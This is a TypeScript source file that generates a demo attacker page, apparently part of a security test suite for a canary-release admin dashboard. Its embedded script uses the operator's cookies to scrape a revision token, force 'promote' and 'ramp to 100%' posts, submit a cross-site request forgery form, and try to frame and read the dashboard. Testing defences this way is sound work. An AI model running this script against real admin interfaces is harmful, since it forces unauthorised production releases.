// A hostile page the demo origins serve at /__demo/attack: what any XSS, third-party script or canary build on the site could run against the dashboard.

/**
 * The page's script, run in the operator's browser on the site's origin. With the operator's
 * ambient credentials (cookies) it tries, on each dashboard URL it can guess (the site's own
 * `/__canary/admin` and, from `?dashboard=<origin>`, the dashboard's origin):
 *  1. to read the dashboard (the revision its forms carry, whether it is signed in);
 *  2. to post `promote`, then `ramp` to 100%, with that revision (or `?revision=`, a guess);
 *  3. a plain cross-origin form post of `promote` (a navigation, the classic CSRF);
 *  4. to frame the dashboard and read the frame.
 * It writes what it saw as JSON into #report and sets `data-done` on <body> when finished.
 */
const SCRIPT = `
const params = new URLSearchParams(location.search);
const bases = [location.origin + "/__canary/admin"];
if (params.get("dashboard")) bases.push(params.get("dashboard").replace(/\\/+$/, "") + "/__canary/admin");
const report = { reads: [], posts: [], frames: [] };
const settle = (ms) => new Promise((done) => setTimeout(done, ms));

async function read(base) {
  try {
    const res = await fetch(base, { credentials: "include" });
    const html = await res.text();
    return { base, status: res.status, url: res.url, signedIn: html.includes("Signed in as"), revision: /name="revision" value="(\\d+)"/.exec(html)?.[1] ?? null };
  } catch (error) {
    return { base, error: String(error) };
  }
}

async function post(base, action, fields) {
  try {
    const res = await fetch(base + "/" + action, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams(fields) });
    return { url: base + "/" + action, type: res.type, status: res.status };
  } catch (error) {
    return { url: base + "/" + action, error: String(error) };
  }
}

function frame(src) {
  return new Promise((done) => {
    const iframe = document.createElement("iframe");
    iframe.src = src;
    iframe.width = "600";
    iframe.height = "200";
    const look = () => {
      let text = null;
      try { text = iframe.contentDocument?.body?.innerText ?? null; } catch (error) { text = null; }
      done({ src, readable: text !== null, dashboard: text !== null && text.includes("Release dashboard") });
    };
    iframe.addEventListener("load", () => settle(200).then(look), { once: true });
    setTimeout(look, 8000);
    document.body.append(iframe);
  });
}

async function attack() {
  for (const base of bases) {
    const seen = await read(base);
    report.reads.push(seen);
    const revision = seen.revision ?? params.get("revision") ?? "";
    report.posts.push(await post(base, "promote", { confirm: "yes", revision, reason: "attack from the site" }));
    report.posts.push(await post(base, "ramp", { percent: "100", revision, reason: "attack from the site" }));
  }
  const sink = document.createElement("iframe");
  sink.name = "sink";
  document.body.append(sink);
  const form = document.createElement("form");
  form.method = "post";
  form.target = "sink";
  form.action = bases[bases.length - 1] + "/promote";
  for (const [name, value] of Object.entries({ confirm: "yes", revision: params.get("revision") ?? "", reason: "attack from the site" })) {
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = name;
    input.value = value;
    form.append(input);
  }
  document.body.append(form);
  const posted = new Promise((done) => sink.addEventListener("load", done, { once: true }));
  form.submit();
  await Promise.race([posted, settle(8000)]);
  for (const base of bases) report.frames.push(await frame(base));
}

attack().catch((error) => (report.error = String(error))).finally(() => {
  document.getElementById("report").textContent = JSON.stringify(report);
  document.body.dataset.done = "yes";
});
`;

/** The attacker's page: a heading, the report the script fills in, and the script. */
export function attackPage(): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>a page on the site</title></head>
<body><h1>Just a page on the site</h1><pre id="report"></pre><script>${SCRIPT}</script></body></html>`;
}
